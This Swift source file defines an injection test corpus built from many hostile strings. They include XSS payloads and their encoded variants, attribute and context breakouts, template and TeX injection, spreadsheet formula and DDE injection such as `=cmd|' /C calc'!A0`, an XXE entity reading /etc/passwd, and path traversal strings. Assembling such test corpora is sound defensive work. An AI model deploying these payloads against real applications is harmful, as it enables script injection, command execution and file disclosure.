/// Strings that try to be more than text, made from lists and their combinations. Whatever of them would run calls
/// `injected()`, which a browser can listen for.
enum InjectionCorpus {
  /// All strings, each once, always in the same order.
  static let strings: [String] = {
    var known: Set<String> = []
    return
      (markup + brokenOut + encoded + attributes + addresses + markdown + templates + tex + formulas + styles
      + scripts + characters + brokenBytes).filter { known.insert($0).inserted }
  }()

  private static let call = "injected()"

  /// Elements that act by themselves or lead away.
  private static let markup = [
    "<script>\(call)</script>", "<ScRiPt>\(call)</sCrIpT>", "<script/x>\(call)</script>", "<script\n>\(call)</script>",
    "<script src=data:text/javascript,\(call)></script>", "<script src=//example.org/x.js></script>",
    "<script type=module>\(call)</script>", "<img src=x onerror=\(call)>", "<img/src=x/onerror=\(call)>",
    "<img src=\"x\" onerror=\"\(call)\">", "<img src='x' onerror='\(call)'>", "<img src=`x` onerror=`\(call)`>",
    "<IMG SRC=//example.org/x.png>", "<image src=x onerror=\(call)>", "<svg onload=\(call)>", "<svg/onload=\(call)>",
    "<svg><script>\(call)</script></svg>", "<svg><style><img src=x onerror=\(call)></style></svg>",
    "<svg><title><img src=x onerror=\(call)></title></svg>", "<svg><desc><img src=x onerror=\(call)></desc></svg>",
    "<svg><foreignObject><img src=x onerror=\(call)></foreignObject></svg>",
    "<svg><a xlink:href=\"javascript:\(call)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:\(call) /></svg>",
    "<svg><set attributeName=onmouseover to=\(call) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='\(call)'/>#x\"/></svg>",
    "<svg><image href=//example.org/x.png /></svg>", "<svg xmlns:x=\"x\" x:onload=\(call)>",
    "<math><style><img src=x onerror=\(call)></style></math>", "<math href=\"javascript:\(call)\">x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=\(call)>\">",
    "<math><annotation-xml encoding=text/html><img src=x onerror=\(call)></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:\(call)>x</maction></math>",
    "<iframe src=\"javascript:\(call)\"></iframe>", "<iframe srcdoc=\"<script>parent.\(call)</script>\"></iframe>",
    "<iframe src=//example.org></iframe>", "<object data=\"javascript:\(call)\"></object>",
    "<object data=//example.org></object>", "<embed src=\"javascript:\(call)\">", "<applet code=x></applet>",
    "<frameset onload=\(call)>", "<body onload=\(call)>", "<body background=//example.org/x.png>",
    "<html onclick=\(call)>", "<head><base href=//example.org/>", "<base href=//example.org>",
    "<link rel=stylesheet href=//example.org/x.css>", "<link rel=prefetch href=//example.org/x>",
    "<link rel=icon href=//example.org/x.ico>", "<meta http-equiv=refresh content=\"0;url=//example.org\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta name=referrer content=unsafe-url>",
    "<style>*{display:none}</style>", "<style>@import '//example.org/x.css';</style>",
    "<form action=//example.org><input name=x></form>",
    "<form><button formaction=\"javascript:\(call)\">x</button></form>",
    "<input autofocus onfocus=\(call)>", "<input type=image src=x onerror=\(call)>",
    "<select autofocus onfocus=\(call)></select>", "<textarea autofocus onfocus=\(call)></textarea>",
    "<button autofocus onfocus=\(call)>x</button>", "<keygen autofocus onfocus=\(call)>",
    "<details open ontoggle=\(call)>x</details>", "<dialog open onclose=\(call)>x</dialog>",
    "<video><source onerror=\(call)></video>", "<video src=x onerror=\(call)></video>",
    "<video poster=//example.org/x.png></video>", "<audio src=x onerror=\(call)></audio>",
    "<marquee onstart=\(call)>x</marquee>", "<bgsound src=//example.org/x>", "<isindex action=javascript:\(call)>",
    "<table background=//example.org/x.png><td>", "<td>x</td></tr></table>", "<tr><td>x", "<caption>x", "<col>",
    "<template><script>\(call)</script></template>",
    "<template shadowrootmode=open><script>\(call)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=\(call)>\">", "<noembed><img src=x onerror=\(call)></noembed>",
    "<xmp><img src=x onerror=\(call)></xmp>", "<plaintext>", "<listing>x</listing>", "<slot name=x>",
    "<x-y onclick=\(call)>",
    "<a href=\"javascript:\(call)\">x</a>", "<a href=data:text/html,<script>\(call)</script>>x</a>",
    "<a ping=//example.org href=#>x</a>", "<a id=nb-main>x</a>", "<div id=nb-source>x</div>", "<p popover id=x>x",
    "<area href=javascript:\(call)>", "<map name=x><area href=javascript:\(call)></map>",
    "<portal src=//example.org>", "<fencedframe src=//example.org>", "<object><param name=x value=y></object>",
    "<b>bold</b>", "<i>", "<u>x", "</b>", "<br>", "<hr>", "<h1>x</h1>", "<p>", "</p>", "<", ">", "&", "<>", "</", "</>",
    "<!", "<!>", "<?xml version=\"1.0\"?>", "<?php echo 1 ?>", "<%= 1 %>", "<!doctype html>",
    "<![CDATA[<script>\(call)</script>]]>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "<!DOCTYPE x [<!ENTITY a \"b\">]>&a;", "<a<b<c", "<a \"b\"='c'>",
    "< script>\(call)</ script>",
  ]

  /// Those of which every way out of a context is tried.
  private static let samples = [
    "<script>\(call)</script>", "<img src=x onerror=\(call)>", "<svg onload=\(call)>", "<style>*{display:none}</style>",
    "<iframe src=//example.org></iframe>", "<meta http-equiv=refresh content=0>", "<a href=javascript:\(call)>x</a>",
    "<math><style><img src=x onerror=\(call)></style></math>",
  ]

  private static let exits = [
    "\"", "'", "\">", "'>", "-->", "--!>", "<!--", "]]>", "</script>", "</style>", "</title>", "</textarea>",
    "</pre></code>", "</span></code></pre></details></div></main>", "</svg>", "</math>", "</table>", "</template>",
    "</noscript>", "\\\">", "`>", "*/", "\"]", "\"}]", "?>", "%>", "</annotation></semantics></math>", "</text></svg>",
    "<!-- /source -->", "<!-- /provenance -->",
  ]

  private static let brokenOut = exits.enumerated().flatMap { index, exit in
    samples.indices.filter { ($0 + index) % 2 == 0 }.map { exit + samples[$0] }
  }

  private static let encoded = samples.flatMap { sample in
    let scalars = Array(sample.unicodeScalars)
    return [
      scalars.map { "&#\($0.value);" }.joined(), scalars.map { "&#x\(String($0.value, radix: 16))" }.joined(),
      sample.replacing("<", with: "&lt;").replacing(">", with: "&gt;"),
      sample.replacing("<", with: "&amp;lt;").replacing(">", with: "&amp;gt;"),
      sample.replacing("<", with: "%3C").replacing(">", with: "%3E"),
      sample.replacing("<", with: "\\u003c").replacing(">", with: "\\u003e"),
      sample.replacing("<", with: "\\x3c").replacing(">", with: "\\x3e"),
      sample.replacing("<", with: "+ADw-").replacing(">", with: "+AD4-"),
      sample.replacing("<", with: "＜").replacing(">", with: "＞"),
      sample.replacing("<", with: "<\u{0}"), sample.replacing("<", with: "<\u{200B}"),
      sample.replacing("<", with: "\u{FEFF}<"), sample.uppercased(),
    ]
  }

  /// Ways out of an attribute's value.
  private static let attributes = [
    "\" onmouseover=\"\(call)", "' onmouseover='\(call)", "` onmouseover=`\(call)", "x onmouseover=\(call)",
    "\" autofocus onfocus=\"\(call)\" x=\"", "' autofocus onfocus='\(call)' x='", "\" style=\"position:fixed;inset:0",
    "' style='background:url(//example.org)", "\"onclick=\(call)//", "\"\tonclick=\(call) x=\"",
    "\"/onclick=\(call)/x=\"",
    "&quot; onclick=\(call) x=&quot;", "&#34; onclick=\(call) x=&#34;", "\\\" onclick=\\\"\(call)",
    "\" srcdoc=\"<script>",
    "\" href=\"javascript:\(call)", "\" src=\"//example.org/x.png", "\" formaction=\"javascript:\(call)",
    "\" id=\"nb-main",
    "\" class=\"banner", "\" download=\"x.exe", "\" target=\"_blank", "\" http-equiv=\"refresh",
    "\" content=\"0;url=//example.org", "\" is=\"x-y", "\" slot=\"x", "\" nonce=\"x", "=\"", "=", "\"\"", "''", "\\",
  ]

  /// Addresses that act, or that leave the page.
  static let addresses = [
    "javascript:\(call)", "JaVaScRiPt:\(call)", "javascript&colon;\(call)", "javascript&#58;\(call)",
    "java\tscript:\(call)", "java&#9;script:\(call)", "java&#10;script:\(call)", "&#1;javascript:\(call)",
    " javascript:\(call)", "\u{A0}javascript:\(call)", "\u{0}javascript:\(call)", "javascript://example.org/%0a\(call)",
    "javascript:/*--></title></style></textarea></script>*/\(call)", "javascript%3A\(call)", "ｊavascript:\(call)",
    "data:text/html,<script>\(call)</script>", "data:text/html;base64,PHNjcmlwdD5pbmplY3RlZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=\(call)>", "data:,\(call)", "DATA:text/html,x", "vbscript:\(call)",
    "livescript:\(call)", "file:///etc/passwd", "blob:null/x", "about:blank", "view-source:x", "filesystem:x",
    "chrome://version", "ftp://example.org/x", "ws://example.org", "feed:javascript:\(call)", "//example.org/x",
    "///example.org/x", "\\\\example.org\\x", "/\\example.org", "https:\\\\example.org", "http:/\u{9}/example.org",
    "../../../../etc/passwd", "%2e%2e/%2e%2e/x.png", "C:\\x.png", "/etc/passwd", "x.svg#javascript:\(call)",
    "?javascript:\(call)",
    "tel:1", "sms:1", "intent://x#Intent;end", "ms-word:ofe|u|//example.org", "mailto:a@b.org?body=\(call)",
  ]

  private static let markdown =
    addresses.prefix(16).map { "[x](\($0))" } + addresses.prefix(8).map { "<\($0)>" }
    + addresses.prefix(4).map { "[x]: <\($0)>\u{20}'t'" } + [
      "![x](//example.org/x.png)", "![x](data:image/svg+xml,<svg/onload=\(call)>)", "![\" onerror=\"\(call)](x)",
      "[x](y \"\" onclick=\(call) \"\")", "[x](<y> 'onclick=\(call)')", "[<img src=x onerror=\(call)>](y)", "[x][y]",
      "[^1]", "[^1]: x",
      "```<script>\(call)</script>", "~~~ \" onclick=\(call)", "`<script>\(call)</script>`", "``", "| a | b |",
      "| --- |", "# <script>\(call)</script>",
      "Setext <b>", "===", "---", "- Note: <script>\(call)</script>", "- Callout(<img src=x onerror=\(call)>): x",
      "> Tip: <b>",
      "{#id onclick=\(call)}", "{#\"><script>}", "# x {#nb-main}", "# x {#a\"b}", "[](#\"><script>)", "[](#fig-x)",
      "[@x]", "[@\"><script>]",
      "[@x; <b>]", "\\(injected())", "\\(\"</script>\")", "$<script>\(call)</script>$",
      "$$<img src=x onerror=\(call)>$$", "$", "$$", "$x", "*/",
      "/*", "*/ \(call)", "//| title: x", "//#-end-name", "<!-- x", "x -->", "\\<script>", "\\&lt;", "&", "&amp", "&lt",
      "&lt;", "&copy", "&#0;",
      "&#x110000;", "&NotEqualTilde;", "www.example.org<script>", "https://example.org/\"onclick=\(call)",
      "a@b.org\"onclick=\(call)", "~~x", "__proto__", "- [x] <b>", "1) <b>",
    ]

  private static let templates = [
    "{{constructor.constructor('\(call)')()}}", "{{7*7}}", "${\(call)}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "[[7*7]]",
    "{{{x}}}", "@(7*7)", "*{7*7}", "~{x}", "{php}x{/php}", "{{=<% %>=}}", "<div v-html=x>", "<div ng-app>{{x}}</div>",
    "<div x-data x-init=\(call)>", "%{7*7}", "{!--x--}", "<#if x>", "$!{x}", "%s%n%x", "%00", "\u{E000}0\u{E001}",
    "\u{E000}99999\u{E001}",
    "\u{E000}", "\u{E001}\u{E000}1",
  ]

  private static let tex = [
    "\\href{javascript:\(call)}{x}", "\\url{javascript:\(call)}", "\\includegraphics{//example.org/x.png}",
    "\\htmlClass{x\" onclick=\"\(call)}{x}", "\\htmlData{x=\" onclick=\(call)}{x}", "\\htmlId{nb-main}{x}",
    "\\htmlStyle{display:none}{x}",
    "\\text{<script>\(call)</script>}", "\\text{</annotation></semantics></math><img src=x onerror=\(call)>}",
    "\\def\\x{\\x\\x}\\x", "\\newcommand{\\x}{<b>}\\x", "\\let\\alpha=\\beta",
    "\\color{red;background:url(//example.org)}x",
    "\\textcolor{\"onclick=\(call)}{x}", "\\colorbox{javascript:x}{x}", "\\unicode{x3c}script", "\\char\"3C",
    "\\verb|<script>\(call)</script>|",
    "\\style{position:fixed}{x}", "\\class{banner}{x}", "\\cssId{nb-main}{x}", "\\require{html}",
    "\\input{/etc/passwd}", "\\write18{x}",
    "\\catcode`\\<=13", "\\rule{9999em}{9999em}", "\\kern9999em x", "\\raisebox{9999em}{x}", "\\tag{<b>}",
    "\\label{\"><script>}",
    "\\ce{<script>}", "\\begin{matrix}<b>&</b>\\end{matrix}", "\\operatorname{<script>}", "\\mathrm{\"onclick}",
    "\\frac", "\\left(", "x^", "{", "}", "\\",
  ]

  /// What a spreadsheet would compute.
  private static let formulas = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"//example.org\",\"x\")", "=IMPORTXML(\"//example.org\",\"//a\")",
    "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u{A0}=1+1", "\u{FEFF}=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "=\"a\"&\"b\"", "=1,2",
    "=1\";=2", "'=1+1", "\"=1+1", "DDE(\"x\";\"y\";\"z\")",
  ]

  private static let styles = [
    "}*{display:none}", "</style><script>\(call)</script>", "red;background:url(//example.org)",
    "url(javascript:\(call))",
    "expression(\(call))", "@import url(//example.org)", "\\3c script\\3e", "#fff}body{display:none}", "var(--x)",
    "-moz-binding:url(//example.org)",
    "/*", "*/", "behavior:url(x)", "@charset \"utf-7\"", "content:\"<b>\"",
    "url(\"data:image/svg+xml,<svg onload=\(call)>\")",
  ]

  private static let scripts = [
    "\";\(call)//", "';\(call)//", "`;\(call)//", "\\\";\(call)//", "</script><script>\(call)//", "\u{2028}\(call)",
    "\u{2029}\(call)", "*/\(call)/*", "'-\(call)-'",
    "\"+\(call)+\"", "${\(call)}`", "<!--<script>", "<!--<script>\(call)</script>-->", "constructor", "toString",
    "hasOwnProperty", "{\"a\":1}", "[1,2]", "null", "NaN",
    "undefined", "-0", "1e999", "\"", "'", "`", "\\u0022;\(call)//", "//# sourceMappingURL=//example.org/x",
    "eval(\(call))",
  ]

  /// Characters that reorder, hide, combine, end lines or mean nothing.
  private static let characters =
    [
      0x00, 0x01, 0x07, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1B, 0x7F, 0x80, 0x85, 0x9B, 0xAD, 0x61C, 0x180E, 0x200B,
      0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029,
      0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0xFE0F, 0xFEFF, 0xFFF9,
      0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0x1D173,
      0xE0001, 0xE0041, 0xE007F, 0x10FFFF,
    ].compactMap(UnicodeScalar.init).map { "a\(Character($0))<b>\(Character($0))c" }
    + [
      "e" + String(repeating: "\u{301}", count: 200), String(repeating: "<", count: 2000),
      String(repeating: "\"", count: 500),
      String(repeating: "<b>", count: 500), String(repeating: "[", count: 500), String(repeating: "x", count: 5000),
      "👩‍👩‍👧‍👦<b>", "\u{202E}<tpircs>",
      "\u{1B}[31mred\u{1B}[0m", "\u{1B}]8;;//example.org\u{7}x", "", " ", "\u{3000}",
    ]

  /// Text read from bytes that are not UTF-8.
  private static let brokenBytes =
    ([
      [0xC0, 0xBC, 0x73], [0xE0, 0x80, 0xBC], [0xF0, 0x80, 0x80, 0xBC], [0xFF, 0x3C, 0x62, 0x3E],
      [0xC3, 0x3C, 0x62, 0x3E], [0xED, 0xA0, 0x80, 0x3C],
      [0x80, 0x22, 0x3E, 0x3C, 0x62], [0xF4, 0x90, 0x80, 0x80, 0x3C], [0xE2, 0x22, 0x3E],
    ] as [[UInt8]]).map { String(decoding: $0, as: UTF8.self) }
}
